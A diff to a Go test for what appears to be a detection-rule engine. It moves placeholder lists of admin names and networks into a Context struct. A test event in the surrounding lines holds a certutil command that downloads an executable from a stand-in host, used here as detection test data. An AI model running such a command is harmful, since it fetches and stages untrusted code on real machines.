@@ -223,7 +223,7 @@ func TestModifiers(t *testing.T) {
 		"DashCmd":         "certutil –urlcache –f http://x a.exe",
 		"SubjectUserName": "ADMINISTRATOR", "TargetUserName": "administrator", "LogonType": "3",
 	}}
-	x := newEnv(nil, map[string][]string{"admins": {"root", "administrator"}, "nets": {"10.0.0.0/8"}})
+	x := newEnv(&Context{Placeholders: map[string][]string{"admins": {"root", "administrator"}, "nets": {"10.0.0.0/8"}}})
 	tests := []struct {
 		sel  string
 		want bool
